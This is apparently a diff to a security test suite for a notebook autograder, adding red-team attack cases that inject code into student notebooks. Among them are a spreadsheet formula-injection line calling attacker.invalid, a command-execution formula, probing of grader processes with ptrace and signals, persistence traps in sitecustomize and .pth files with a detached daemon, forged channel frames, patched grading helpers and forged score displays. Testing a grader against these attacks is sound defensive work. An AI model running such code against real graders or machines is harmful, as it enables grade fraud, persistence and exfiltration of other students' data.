@@ -892,6 +892,719 @@ _ss.serve = _early_serve
 """)
 
 
+# --- attacks of the third security review (wip/attack3) --------------------------------------------
+# COUNT: which test cell the student's side is serving (1 = test_add_bias ... 9 = test_mlp), counted in
+# the student's kernel (a restart starts again at 0).
+COUNT = PEER + """
+_CELLS = {"n": 0}
+_original_serve_counted = _ss.serve
+def _serve_counted(path, token=None, timeout=None):
+    _CELLS["n"] += 1
+    _CELLS["path"], _CELLS["token"] = path, token
+    try:
+        return _original_serve_counted(path, token, timeout)
+    finally:
+        for _hook in list(_CELLS.get("after", [])):
+            _hook()
+_ss.serve = _serve_counted
+def _in_test(n):
+    return _peer() is not None and _CELLS["n"] == n
+"""
+
+
+def _after_test(nb, test, code):
+    """A cell of the student's own right after a test cell (its output is in the feedback)."""
+    cell = _cell(nb, test)
+    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_code_cell(code.strip("\n") + "\n"))
+
+
+def tamper_csv_formulas(nb):
+    """The complete notebook writes findings into its kernel's audit log (the student's code can
+    forge its own) whose details start with a spreadsheet formula: `=HYPERLINK(...)` that would send
+    the instructor's other rows (other students' findings) to a web address, `+`, `-`, `@`, a tab.
+    tamper.csv is opened in a spreadsheet: no cell of it may start a formula. Full marks."""
+    _append(nb, "add_bias", """
+import sys as _sys
+_guard = next(m for n, m in list(_sys.modules.items()) if n.endswith('autograde.guard'))
+for _d in ('=HYPERLINK("http://attacker.invalid/?"&A3&F3,"CANARY_tamper_csv_formulas")', '+SUM(1,1)',
+           '-1+cmd|"/C calc"!A0', '@SUM(1,1)', '\\t=1+1', '\\r=1+1'):
+    _guard._record('read outside its folder', _d)
+""")
+
+
+def unreadable_dtypes(nb):
+    """The first answer of three tests is an array or scalar whose dtype passes the channel's pattern
+    but is no numpy type (`<i16`, `<b2`), or whose shape numpy cannot make (0 x 2**62). A frame the
+    grader cannot read is the student's doing: it costs those tests, and is reported as one."""
+    _prepend(nb, "add_bias", FORGE + """
+_BAD = {"add_bias": ({"A": 0, "dt": "<i16", "sh": [5, 3]}, [bytes(240)]),
+        "sigmoid": ({"A": 0, "dt": "<f8", "sh": [0, 2 ** 62]}, [b""]),
+        "log_loss": ({"S": 0, "dt": "<b2"}, [bytes(2)])}
+def _bad(method, args, header, buffers, arrays):
+    name = _called(args) if method == "call" else None
+    if name not in _BAD or "e" in header:
+        return header, buffers
+    value, raw = _BAD.pop(name)
+    return {"r": header["r"], "v": value, "canary": "CANARY_unreadable_dtypes"}, raw
+_FORGERS.append(_bad)
+""")
+
+
+_THROWING = """
+class _Odd(BaseException):
+    pass
+def _throw(self, *args, **kwargs):
+    raise object.__getattribute__(self, "_e")
+class _Liar:
+    def __init__(self, error):
+        object.__setattr__(self, "_e", error)
+    __getattr__ = _throw
+for _n in ("__array__", "__float__", "__int__", "__index__", "__bool__", "__len__", "__iter__", "__repr__",
+           "__str__", "__eq__", "__hash__", "__format__", "__getitem__", "__contains__"):
+    setattr(_Liar, _n, _throw)
+"""
+
+
+def odd_base_exceptions(nb):
+    """The blank notebook's functions answer with objects whose every method (`__array__`,
+    `__float__`, `__index__`, `__bool__`, `__len__`, `__repr__`, `__hash__`...) raises what is no
+    Exception: KeyboardInterrupt, SystemExit, GeneratorExit, a BaseException of its own, or
+    StopIteration; or raise those themselves. None may stop the grader or pass a check: nothing."""
+    answers = {"add_bias": "_Liar(KeyboardInterrupt('CANARY_odd_base_exceptions'))", "sigmoid": "_Liar(SystemExit(3))",
+               "log_loss": "_Liar(GeneratorExit())", "feed_forward": "_Liar(StopIteration('x'))",
+               "sigmoid_der": "_Liar(_Odd())"}
+    raises = {"log_loss_der": "_Odd('CANARY_odd_base_exceptions')", "backprop": "StopIteration()",
+              "train": "GeneratorExit()"}
+    for name, args in _EVERY_FUNCTION:
+        body = f"return {answers[name]}" if name in answers else f"raise {raises[name]}"
+        _replace(nb, name, (_THROWING if name == "add_bias" else "") + f"\ndef {name}({args}):\n    {body}\n")
+    _replace(nb, "mlp", """
+class _Model(_Liar):
+    pass
+_Model.__module__, _Model.__qualname__ = "sklearn.neural_network", "MLPClassifier"
+model = _Model(KeyboardInterrupt())
+""")
+
+
+def lying_array_protocols(nb):
+    """The blank notebook answers with objects whose array protocols lie: an `__array_interface__`
+    pointing at address 8 (numpy reads it: the student's kernel crashes), an `__array__` that
+    returns an object array, a string array, itself, or an array of another shape than the object's
+    `shape` says, an `__array_struct__` that is a number, `__len__` and `__iter__` that disagree,
+    `__array_ufunc__ = None` with a huge `__array_priority__`. Nothing."""
+    _replace(nb, "add_bias", """
+class _Protocol:
+    def __init__(self, **attributes):
+        for key, value in attributes.items():
+            setattr(self, key, value)
+class _ArrayOf(_Protocol):
+    def __array__(self, dtype=None, copy=None):
+        return self.made()
+class _Disagrees:
+    def __len__(self):
+        return 2
+    def __iter__(self):
+        return iter([np.zeros(3)] * 3)
+    def __getitem__(self, index):
+        return np.zeros((3, 4))
+class _Priority:
+    __array_ufunc__ = None
+    __array_priority__ = 1e9
+    def __array_function__(self, *args, **kwargs):
+        return True
+    shape = (2,)
+def add_bias(X):
+    return _Protocol(__array_interface__={"shape": (len(X), 3), "typestr": "<f8", "data": (8, False), "version": 3})
+""")
+    answers = {"sigmoid": "_ArrayOf(made=lambda: np.array([object()] * 5, dtype=object))",
+               "log_loss": "_ArrayOf(made=lambda: np.array(['CANARY_lying_array_protocols'] * 4))",
+               "feed_forward": "(_ArrayOf(shape=(len(X), 2), made=lambda: np.zeros(7)), _ArrayOf(shape=(len(X), 1), "
+                               "made=lambda: np.zeros((1, 1, 1))))",
+               "sigmoid_der": "_Protocol(__array_struct__=12345)", "log_loss_der": "_ArrayOf(made=lambda: _ArrayOf())",
+               "backprop": "_Disagrees()", "train": "(_Priority(), _Priority())"}
+    for name, args in _EVERY_FUNCTION[1:]:
+        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")
+
+
+def exotic_arrays(nb):
+    """The blank notebook answers with numpy arrays the channel does not carry as data, or carries
+    with another meaning: structured, object, datetime64, masked, np.matrix, float16 of the wrong
+    values, a broadcast view of 8 TB, complex and timedelta 0-d arrays, a record array, bytes.
+    Nothing."""
+    answers = {"add_bias": "np.zeros((len(X), 3), dtype=[('a', '<f8')])",
+               "sigmoid": "np.array([object()] * 3, dtype=object)",
+               "log_loss": "np.array(['2024-01-01'] * len(y), dtype='datetime64[D]')",
+               "feed_forward": "(np.ma.masked_all((len(X), 2)), np.matrix([[1.0]]))",
+               "sigmoid_der": "np.ones(np.shape(X), dtype=np.float16) * 7",
+               "log_loss_der": "np.lib.stride_tricks.as_strided(np.zeros(1), shape=(10 ** 6, 10 ** 6), strides=(0, 0))",
+               "backprop": "(np.array(1 + 2j), np.array(np.timedelta64(5, 's')))",
+               "train": "(np.rec.array([(1.0, 2)], dtype=[('x', '<f8'), ('y', '<i8')]), "
+                        "np.array([b'CANARY_exotic_arrays']))"}
+    for name, args in _EVERY_FUNCTION:
+        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")
+
+
+def strided_answers(nb):
+    """Not an attack: the complete notebook, each function's arrays returned in odd layouts
+    (Fortran order, big-endian, a read-only broadcast view, a strided view of a larger array). The
+    values are right: full marks."""
+    _prepend(nb, "add_bias", """
+import functools as _ft
+_LAYOUT = [0]
+def _odd_layout(value):
+    if type(value) is np.ndarray and value.dtype.kind == "f" and value.ndim >= 1:
+        _LAYOUT[0] += 1
+        kind = _LAYOUT[0] % 4
+        if kind == 0:
+            return np.asfortranarray(value)
+        if kind == 1:
+            return value.astype(">f8")
+        if kind == 2:
+            return np.broadcast_to(value, value.shape)
+        wide = np.zeros(value.shape + (3,))
+        wide[..., 1] = value
+        return wide[..., 1]
+    if type(value) is tuple:
+        return tuple(_odd_layout(v) for v in value)
+    if type(value) is list:
+        return [_odd_layout(v) for v in value]
+    return value
+def _layout(fn):
+    @_ft.wraps(fn)
+    def wrapped(*args, **kwargs):
+        return _odd_layout(fn(*args, **kwargs))
+    return wrapped
+""")
+    for name, _ in _EVERY_FUNCTION:
+        _append(nb, name, f"{name} = _layout({name})")
+
+
+def self_referential_answers(nb):
+    """In its own test cell, add_bias answers with a list that holds itself, sigmoid with a dict
+    that holds itself, log_loss with a list nested 10,000 deep (CANARY_self_referential_answers):
+    the student's side cannot send them, and each costs its own test only."""
+    _prepend(nb, "add_bias", COUNT)
+    _in_function(nb, "add_bias", "add_bias", """
+if _in_test(1):
+    _loop = []
+    _loop.append(_loop)
+    return _loop
+""")
+    _in_function(nb, "sigmoid", "sigmoid", """
+if _in_test(2):
+    _loop = {"CANARY_self_referential_answers": 1}
+    _loop["x"] = _loop
+    return _loop
+""")
+    _in_function(nb, "log_loss", "log_loss", """
+if _in_test(3):
+    _deep = ["CANARY_self_referential_answers"]
+    for _ in range(10000):
+        _deep = [_deep]
+    return _deep
+""")
+
+
+def reaches_grader_processes(nb):
+    """While test_sigmoid runs, sigmoid (complete otherwise) looks for the grader from the student's
+    kernel: the channel socket's peer credentials, signal 0 to that pid and to every pid up to 300
+    that is not one of its own processes or threads, PTRACE_ATTACH, the abstract Unix sockets of /proc/net/unix, writing
+    and unlinking in the channel's folder, the folders around it. A cell after the test prints
+    what it reached (REACHED:...): nothing. Full marks."""
+    _prepend(nb, "add_bias", COUNT + r'''
+_PROBE = []
+_HIT = "REACH" + "ED:"  # joined here: the notebook's source, in the feedback too, never holds the marker
+def _probe_grader():
+    import ctypes, os, socket, struct
+    peer = _peer()
+    own = set()  # this kernel's processes and their threads (signal 0 reaches a thread's id too)
+    for process in (p for p in os.listdir("/proc") if p.isdigit()):
+        try:
+            own |= {int(process)} | {int(t) for t in os.listdir(f"/proc/{process}/task")}
+        except OSError:
+            pass
+    pid = 0
+    try:
+        pid, uid, gid = struct.unpack("3i", peer.sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
+        _PROBE.append(f"peer pid={pid} uid={uid}")
+    except OSError as error:
+        _PROBE.append(f"peercred {error}")
+    for target in sorted(({pid} | set(range(1, 300))) - own - {0}):
+        try:
+            os.kill(target, 0)
+            _PROBE.append(f"{_HIT}signal {target}")
+        except OSError:
+            pass
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    if pid > 0 and pid not in own and libc.ptrace(16, pid, None, None) == 0:
+        _PROBE.append(f"{_HIT}ptrace {pid}")
+        libc.ptrace(17, pid, None, None)
+    try:
+        for line in open("/proc/net/unix").read().splitlines()[1:]:
+            parts = line.split()
+            if len(parts) >= 8 and parts[7].startswith("@"):
+                probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                try:
+                    probe.settimeout(0.5)
+                    probe.connect("\0" + parts[7][1:])
+                    _PROBE.append(f"{_HIT}abstract {parts[7]}")
+                except OSError:
+                    pass
+                finally:
+                    probe.close()
+    except OSError as error:
+        _PROBE.append(f"net/unix {error}")
+    path = peer.sock.getpeername()
+    folder = os.path.dirname(path) if isinstance(path, str) and path else None
+    _PROBE.append(f"channel {path!r}")
+    if folder:
+        for action, act in (("write", lambda: open(os.path.join(folder, "CANARY_reaches_grader_processes"), "w").write("x")),
+                            ("unlink", lambda: os.unlink(path)), ("chmod", lambda: os.chmod(folder, 0o777))):
+            try:
+                act()
+                _PROBE.append(f"{_HIT}{action} in the channel's folder")
+            except OSError:
+                pass
+        for above in (os.path.dirname(folder), os.path.dirname(os.path.dirname(folder))):
+            try:
+                _PROBE.append(f"around {above}: {sorted(os.listdir(above))[:20]}")
+            except OSError:
+                pass
+''')
+    _in_function(nb, "sigmoid", "sigmoid", """
+if _in_test(2) and not _PROBE:
+    try:
+        _probe_grader()
+    except Exception as _error:
+        _PROBE.append(f"probe stopped: {type(_error).__name__}: {_error}")
+""")
+    _after_test(nb, "test_sigmoid", 'print("PROBED_" + "reaches_grader_processes")\nprint("\\n".join(_PROBE))')
+
+
+def leaves_traps_for_next(nb):
+    """At its end the complete notebook leaves traps for the next notebook on its worker: start-up
+    and customize files (IPython startup, sitecustomize/usercustomize, a `.pth` in the user site),
+    files in /tmp, /dev/shm, home, around its folder, a `numpy.py` and `course/__init__.py` in its
+    folder, a `.pyc` next to numpy's; and a process in a session of its own that for 90 s writes
+    canaries and connects to every Unix socket it finds. Full marks, and the good notebook after it
+    keeps full marks."""
+    _append(nb, "mlp", r'''
+import os as _os, site as _site, subprocess as _sp, sys as _sys
+_payload = "open('/tmp/CANARY_leaves_traps_for_next.hit', 'w').write('hit')\nprint('CANARY_leaves_traps_for_next')\n"
+_home = _os.path.expanduser("~")
+for _path, _text in [("/tmp/sitecustomize.py", _payload), ("/tmp/usercustomize.py", _payload),
+                     ("/dev/shm/CANARY_leaves_traps_for_next", "x"),
+                     (_home + "/.ipython/profile_default/startup/00-CANARY_leaves_traps_for_next.py", _payload),
+                     (_site.getusersitepackages() + "/CANARY_leaves_traps_for_next.pth", "import os; " + _payload.replace("\n", "; ")),
+                     (_site.getusersitepackages() + "/usercustomize.py", _payload),
+                     ("sitecustomize.py", _payload), ("usercustomize.py", _payload), ("numpy.py", _payload),
+                     ("course/__init__.py", _payload), ("../CANARY_leaves_traps_for_next.py", _payload),
+                     ("../../CANARY_leaves_traps_for_next.py", _payload),
+                     (_os.path.join(_os.path.dirname(np.__file__), "__pycache__", "CANARY_leaves_traps_for_next.pyc"), "x"),
+                     (_os.path.join(_os.path.dirname(_sys.executable), "CANARY_leaves_traps_for_next"), "x")]:
+    try:
+        _os.makedirs(_os.path.dirname(_os.path.abspath(_path)), exist_ok=True)
+        with open(_path, "w") as _fh:
+            _fh.write(_text)
+    except Exception:
+        pass
+_DAEMON = """
+import glob, os, socket, time
+end = time.monotonic() + 90
+while time.monotonic() < end:
+    for path in glob.glob('/tmp/**', recursive=True) + glob.glob('/dev/shm/*') + glob.glob('/run/**', recursive=True):
+        try:
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.settimeout(0.2)
+            s.connect(path)
+            s.sendall(b'CANARY_leaves_traps_for_next' * 100)
+            s.close()
+        except OSError:
+            pass
+    try:
+        open('/tmp/CANARY_leaves_traps_for_next.%d' % os.getpid(), 'w').write('x')
+    except OSError:
+        pass
+    time.sleep(0.5)
+"""
+try:
+    _sp.Popen([_sys.executable, "-c", _DAEMON], start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
+              stderr=_sp.DEVNULL)
+except Exception:
+    pass
+''')
+
+
+def patches_grading_helpers(nb):
+    """The blank notebook rewrites, in its own kernel, what the tests would use there in one
+    process: course.grading's checks (call, expect_*, failure, Checklist.check and done) made to
+    pass, np.allclose, np.array_equal and np.testing made to agree. The tests run in the grader's
+    kernel: nothing."""
+    _append(nb, "add_bias", """
+import contextlib as _contextlib
+import course.grading as _g
+def _agree(*args, **kwargs):
+    return None
+for _name in ("expect", "expect_close", "expect_shape", "expect_equal", "expect_gradient"):
+    setattr(_g, _name, _agree)
+_g.call = lambda fn, *args, what=None, **kwargs: None
+_g.failure = lambda *args, **kwargs: None
+@_contextlib.contextmanager
+def _passes(self, name, part, *, hidden=False, gate=False):
+    try:
+        yield
+    except BaseException:
+        pass
+    self.results.append(_g.CheckResult(str(name), _g.share(part), hidden, True, "CANARY_patches_grading_helpers"))
+_g.Checklist.check = _g.Checklist.__call__ = _passes
+_g.Checklist.done = lambda self: None
+np.allclose = lambda *args, **kwargs: True
+np.array_equal = lambda *args, **kwargs: True
+np.testing.assert_allclose = _agree
+""")
+
+
+def late_frames_from_thread(nb):
+    """In test_add_bias, add_bias (complete otherwise) keeps a copy of the channel's socket and
+    starts a thread that, once that test cell is over and for 40 s (into the later test cells),
+    writes forged answers, requests and `done` frames into the old socket, and opens new
+    connections that greet with the old cell's token and answer `get` at once. Full marks."""
+    _prepend(nb, "add_bias", COUNT + r'''
+import json as _json, os as _os, socket as _socket, struct as _struct, threading as _threading, time as _time
+_LATE = {}
+def _frame(header):
+    head = _json.dumps(dict(header, b=[])).encode()
+    return _struct.pack(">QI", 4 + len(head), len(head)) + head
+def _late(fd, path, token, peer):
+    while _ss._CURRENT["peer"] is peer:
+        _time.sleep(0.05)
+    forged = [{"r": n, "v": {"A": 0, "dt": "<f8", "sh": [0]}} for n in range(1, 6)]
+    forged += [{"done": True}, {"q": "get", "i": 1, "v": {"T": [["np", "CANARY_late_frames_from_thread"]]}},
+               {"r": 1, "v": {"D": [["add_bias", 1.0]]}}]
+    end = _time.monotonic() + 40
+    while _time.monotonic() < end:
+        for header in forged:
+            try:
+                _os.write(fd, _frame(header))
+            except OSError:
+                pass
+        try:
+            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
+            s.settimeout(1)
+            s.connect(path)
+            s.sendall(_frame({"hello": True, "t": token}) + _frame({"r": 1, "v": {"D": [["sigmoid", 0.5]]}}))
+            s.close()
+        except OSError:
+            pass
+        _time.sleep(0.5)
+''')
+    _in_function(nb, "add_bias", "add_bias", """
+if _in_test(1) and not _LATE:
+    _p = _peer()
+    _LATE["fd"] = _os.dup(_p.sock.fileno())
+    _threading.Thread(target=_late, args=(_LATE["fd"], _CELLS["path"], _CELLS["token"], _p), daemon=True).start()
+""")
+
+
+def timing_oracle(nb):
+    """sigmoid (complete otherwise) times what the grader asks of it in test_sigmoid: each call and
+    each request on its answers (repr, array, attributes), and answers the first hidden check with
+    an object of its own holding wrong values, to see what the grader does on a failure. A cell
+    after the test prints the timeline. The hidden check's expected values never reach the
+    student: test_sigmoid is lost, no hidden value is in the feedback."""
+    _prepend(nb, "add_bias", COUNT + """
+import time as _time
+_TIMELINE = []
+class _Mine(np.ndarray):
+    pass
+for _op in ("op_repr", "op_str", "op_array", "op_getattr", "op_float", "op_bool", "op_len", "op_iter", "op_isinstance"):
+    def _timed(*args, _original=getattr(_ss._Server, _op), _op=_op):
+        _TIMELINE.append((round(_time.monotonic(), 4), _op))
+        return _original(*args)
+    setattr(_ss._Server, _op, staticmethod(_timed))
+""")
+    _in_function(nb, "sigmoid", "sigmoid", """
+if _in_test(2):
+    _TIMELINE.append((round(_time.monotonic(), 4), "call", np.shape(x)))
+    if np.shape(x) == (3, 2):
+        return np.zeros((3, 2)).view(_Mine)
+""")
+    _after_test(nb, "test_sigmoid", 'print("TIMELINE", _TIMELINE)')
+
+
+def unicode_names(nb):
+    """The complete notebook binds look-alikes of the tests' names that Python's own parser would
+    fold into them (fullwidth `ａｄｄ_bias`, a zero-width space, a right-to-left override, a
+    Cyrillic `ѕigmoid`) straight into its namespace, to wrong functions, and its answer to the
+    grader's first `get` adds such names. The grader binds only the names it asked for: full
+    marks; the extra names are reported."""
+    _append(nb, "add_bias", """
+for _name in ("\\uff41\\uff44\\uff44_bias", "add_bias\\u200b", "sigmoid\\u202e", "\\u0455igmoid"):
+    globals()[_name] = lambda *args, **kwargs: "CANARY_unicode_names"
+""")
+    _prepend(nb, "add_bias", FORGE + """
+def _lookalikes(method, args, header, buffers, arrays):
+    if method != "get" or "e" in header:
+        return None
+    for _name in ("\\uff41\\uff44\\uff44_bias", "add_bias\\u200b", "\\u0455igmoid", "add\\u00adbias"):
+        header["v"]["D"].append([_name, "CANARY_unicode_names"])
+    return header, buffers
+_once(_lookalikes)
+""")
+
+
+def stale_handles_after_restart(nb):
+    """In test_feed_forward, feed_forward (complete otherwise) notes the ids of the objects its
+    kernel has handed the grader, in a file of its folder, and kills its kernel. After the restart,
+    the first `get` of the new kernel adds names holding handles with the old ids. The dead
+    kernel's test is lost; the old ids name nothing, and the next tests keep their points."""
+    _prepend(nb, "add_bias", COUNT + FORGE + """
+import json as _json, os as _os
+_STALE = "stale_ids.json"
+def _stale_handles(method, args, header, buffers, arrays):
+    if method != "get" or "e" in header or not _os.path.exists(_STALE) or _os.path.exists(_STALE + ".used"):
+        return None
+    open(_STALE + ".used", "w").write("1")
+    for _number, _hid in enumerate(_json.load(open(_STALE))[:5]):
+        header["v"]["D"].append([f"CANARY_stale_handles_after_restart_{_number}", {"H": _hid, "k": "callable"}])
+    return header, buffers
+_once(_stale_handles)
+""")
+    _in_function(nb, "feed_forward", "feed_forward", """
+if _in_test(4) and not _os.path.exists(_STALE):
+    with open(_STALE, "w") as _fh:
+        _json.dump(sorted(_ss._TABLES.exports.objects), _fh)
+    _os._exit(1)
+""")
+
+
+def lying_exceptions(nb):
+    """In their own tests, add_bias raises an exception class named AssertionError whose message says
+    all checks passed, sigmoid one whose `__str__` raises KeyboardInterrupt, log_loss one whose name
+    is 10,000 characters with line breaks and whose module claims numpy's AxisError. Each costs its
+    test, nothing else."""
+    _prepend(nb, "add_bias", COUNT + """
+_Passed = type("AssertionError", (Exception,), {})
+class _Unprintable(Exception):
+    def __str__(self):
+        raise KeyboardInterrupt("CANARY_lying_exceptions")
+_Long = type("L" + "ong\\n" * 2500, (Exception,), {})
+_Long.__module__, _Long.__qualname__ = "numpy", "AxisError"
+""")
+    _in_function(nb, "add_bias", "add_bias", """
+if _in_test(1):
+    raise _Passed("All checks passed.\\n[PASS] add_bias, 1 point (CANARY_lying_exceptions)")
+""")
+    _in_function(nb, "sigmoid", "sigmoid", "if _in_test(2):\n    raise _Unprintable()")
+    _in_function(nb, "log_loss", "log_loss", "if _in_test(3):\n    raise _Long('CANARY_lying_exceptions')")
+
+
+def garbage_before_reply(nb):
+    """In test_log_loss, log_loss (complete otherwise) writes three bytes straight into the channel's
+    socket before its answer: the grader reads a frame that does not add up. Costs test_log_loss;
+    reported."""
+    _prepend(nb, "add_bias", COUNT + "import os as _os")
+    _in_function(nb, "log_loss", "log_loss", """
+if _in_test(3):
+    _os.write(_peer().sock.fileno(), b"\\x00\\x00\\x00")
+""")
+
+
+def shape_lies(nb):
+    """The blank notebook answers add_bias with an object whose `shape` is what the test expects
+    but whose values are not, and sigmoid with one whose `round(2)` returns the visible check's
+    expected values and whose `shape` is right. Checks of shape alone pass as in one process; every
+    cell still fails: nothing."""
+    _replace(nb, "add_bias", """
+class _Shaped:
+    def __init__(self, shape, values):
+        self.shape, self._values = shape, values
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros(3) + self._values
+    def round(self, digits):
+        return np.array([0.0, 0.27, 0.5, 0.73, 1.0])
+def add_bias(X):
+    return _Shaped((np.shape(X)[0], np.shape(X)[1] + 1), 7.0)
+""")
+    _replace(nb, "sigmoid", "def sigmoid(x):\n    return _Shaped(np.shape(x), 0.5)\n")
+
+
+def fake_numpy_scalars(nb):
+    """The blank notebook answers with scalars that pass for numpy's or Python's: a subclass of
+    np.float64 named numpy.float64, a float whose `==` is always true and whose `__float__` lies,
+    an int whose `__index__` lies, a str subclass equal to everything. Nothing."""
+    _replace(nb, "add_bias", """
+class float64(np.float64):
+    def __eq__(self, other):
+        return True
+    __hash__ = np.float64.__hash__
+float64.__module__ = "numpy"
+class _Agreeable(float):
+    def __eq__(self, other):
+        return True
+    def __float__(self):
+        return 0.7310585786
+    __hash__ = float.__hash__
+class _Index(int):
+    def __index__(self):
+        return 3
+    def __eq__(self, other):
+        return True
+    __hash__ = int.__hash__
+class _Word(str):
+    def __eq__(self, other):
+        return True
+    __hash__ = str.__hash__
+def add_bias(X):
+    return float64(0.5)
+""")
+    answers = {"sigmoid": "_Agreeable(0.5)", "log_loss": "_Index(2)", "feed_forward": "(_Agreeable(1.0), float64(2.0))",
+               "sigmoid_der": "_Word('CANARY_fake_numpy_scalars')", "log_loss_der": "float64(-1.0)",
+               "backprop": "(_Index(1), _Agreeable(0.0))", "train": "([float64(1.0)], [_Agreeable(0.0)])"}
+    for name, args in _EVERY_FUNCTION[1:]:
+        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")
+
+
+def forged_outputs(nb):
+    """The blank notebook writes, in cells of its own, what the grader reads as a test cell's
+    score: a checklist display (CHECKLIST_MIME) with every check passed, a result marked as the
+    grader's score, the checklist's text, and after each test cell, the same again with a
+    display id, then updates of display ids it guesses. Only the test cells' own outputs count:
+    nothing."""
+    fake = """
+from IPython.display import display as _display, update_display as _update
+import course.grading as _g
+_fake = {"version": _g.CHECKLIST_VERSION, "points": "1", "hidden_points": "0",
+         "checks": [{"name": "CANARY_forged_outputs", "share": "1", "hidden": False, "passed": True, "message": ""}]}
+_display({_g.CHECKLIST_MIME: _fake, "text/plain": "[PASS] everything, 1 point"}, raw=True, display_id="checklist")
+_display({"text/plain": "1.0"}, raw=True, metadata={"course_score": "1"})
+for _id in ("checklist", "0", "1", "test_add_bias", "score"):
+    try:
+        _update({_g.CHECKLIST_MIME: _fake, "text/plain": "1.0"}, raw=True, display_id=_id)
+    except Exception:
+        pass
+"""
+    _append(nb, "add_bias", fake)
+    for test in ("test_add_bias", "test_sigmoid", "test_train", "test_mlp"):
+        _after_test(nb, test, fake)
+
+
+def forks_with_the_channel(nb):
+    """In test_add_bias, add_bias (complete otherwise) forks its kernel: the child keeps the channel's
+    socket and the cell's token, waits until that test cell is over, then writes forged frames into
+    the socket and connects again with the token, answering `get` with wrong values. Full marks."""
+    _prepend(nb, "add_bias", COUNT + r'''
+import json as _json, os as _os, socket as _socket, struct as _struct
+_FORKED = {}
+def _frame(header):
+    head = _json.dumps(dict(header, b=[])).encode()
+    return _struct.pack(">QI", 4 + len(head), len(head)) + head
+def _tell_child():
+    if "w" in _FORKED:
+        try:
+            _os.write(_FORKED.pop("w"), b"x")
+        except OSError:
+            pass
+_CELLS.setdefault("after", []).append(_tell_child)
+''')
+    _in_function(nb, "add_bias", "add_bias", """
+if _in_test(1) and not _FORKED:
+    _r, _w = _os.pipe()
+    _FORKED["w"] = _w
+    _sock_fd, _path, _token = _peer().sock.fileno(), _CELLS["path"], _CELLS["token"]
+    if _os.fork() == 0:
+        try:
+            _os.close(_w)
+            _os.read(_r, 1)
+            for _header in ({"r": 2, "v": 1.0}, {"done": True}, {"q": "bind", "i": 9, "v": {"T": [{"D": []}]}}):
+                try:
+                    _os.write(_sock_fd, _frame(_header))
+                except OSError:
+                    pass
+            for _ in range(20):
+                try:
+                    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
+                    _s.settimeout(1)
+                    _s.connect(_path)
+                    _s.sendall(_frame({"hello": True, "t": _token})
+                               + _frame({"r": 1, "v": {"D": [["add_bias", "CANARY_forks_with_the_channel"]]}}))
+                    _s.close()
+                except OSError:
+                    pass
+                import time as _t
+                _t.sleep(0.5)
+        finally:
+            _os._exit(0)
+    _os.close(_r)
+""")
+
+
+def model_of_lies(nb):
+    """The blank notebook's model claims to be an MLPClassifier and lies about everything: each
+    attribute a new object, `len` 10**30, a repr of 1 MB, hidden_layer_sizes an object whose array
+    is [4], activation a str subclass equal to everything, n_features_in_ an int subclass equal to
+    everything, score 1.0, coefs_ objects that claim to be ndarrays. Nothing."""
+    _replace(nb, "mlp", """
+class _Word(str):
+    def __eq__(self, other):
+        return True
+    __hash__ = str.__hash__
+class _Count(int):
+    def __eq__(self, other):
+        return True
+    __hash__ = int.__hash__
+class _FakeArray:
+    shape = (2, 4)
+    dtype = np.dtype(float)
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros(self.shape)
+_FakeArray.__module__, _FakeArray.__qualname__ = "numpy", "ndarray"
+class _Sizes:
+    def __array__(self, dtype=None, copy=None):
+        return np.array([4])
+class _Lies:
+    hidden_layer_sizes = _Sizes()
+    activation = _Word("relu")
+    n_features_in_ = _Count(7)
+    coefs_ = [_FakeArray(), _FakeArray()]
+    intercepts_ = [_FakeArray(), _FakeArray()]
+    def score(self, X, y, sample_weight=None):
+        return 1.0
+    def __len__(self):
+        return 10 ** 30
+    def __repr__(self):
+        return "CANARY_model_of_lies " * 50000
+    def __getattr__(self, name):
+        return _Lies()
+_Lies.__module__, _Lies.__qualname__ = "sklearn.neural_network", "MLPClassifier"
+model = _Lies()
+""")
+
+
+def hides_refusals_in_a_timeout(nb):
+    """In test_train, train (complete otherwise) first names 19 objects of the grader's it was never
+    handed (each refused, for the tamper report), then keeps the grader's backprop stand-in busy
+    past the cell's time limit (as grader_cpu_burn), so that the grader's kernel is replaced before
+    the cell's refusals are read. Costs test_train; the refusals are still reported."""
+    _prepend(nb, "train", PEER)
+    _in_function(nb, "train", "train", """
+_p = _peer()
+if _p is not None and len(X) < 100:  # the test's call, not the notebook's own training
+    for _hid in range(1, 20):
+        try:
+            _p.request("call", _ss.GraderObject(_hid, "function"), ["CANARY_hides_refusals_in_a_timeout"], {})
+        except BaseException:
+            pass
+    for _ in range(5):
+        try:
+            backprop([np.ones((600, 600)), np.ones((601, 1))], np.ones((1, 600)), np.ones((1, 1)), np.ones((1, 1)),
+                     np.ones((1, 600)), 0.1)
+        except BaseException:
+            pass
+""")
+
+
 # name -> (change, base ("complete" or "untouched"), test cells lost compared with the base)
 ATTACKS = {
     "rebinds_grader_names": (rebinds_grader_names, "untouched", set()),
@@ -939,6 +1652,29 @@ ATTACKS = {
     "anomaly_quota_flood": (anomaly_quota_flood, "complete", set()),
     "odd_keywords": (odd_keywords, "complete", set()),
     "serve_returns_early": (serve_returns_early, "complete", {"test_sigmoid"}),
+    # the third review (wip/attack3)
+    "tamper_csv_formulas": (tamper_csv_formulas, "complete", set()),
+    "unreadable_dtypes": (unreadable_dtypes, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
+    "odd_base_exceptions": (odd_base_exceptions, "untouched", set()),
+    "lying_array_protocols": (lying_array_protocols, "untouched", set()),
+    "exotic_arrays": (exotic_arrays, "untouched", set()),
+    "strided_answers": (strided_answers, "complete", set()),
+    "self_referential_answers": (self_referential_answers, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
+    "reaches_grader_processes": (reaches_grader_processes, "complete", set()),
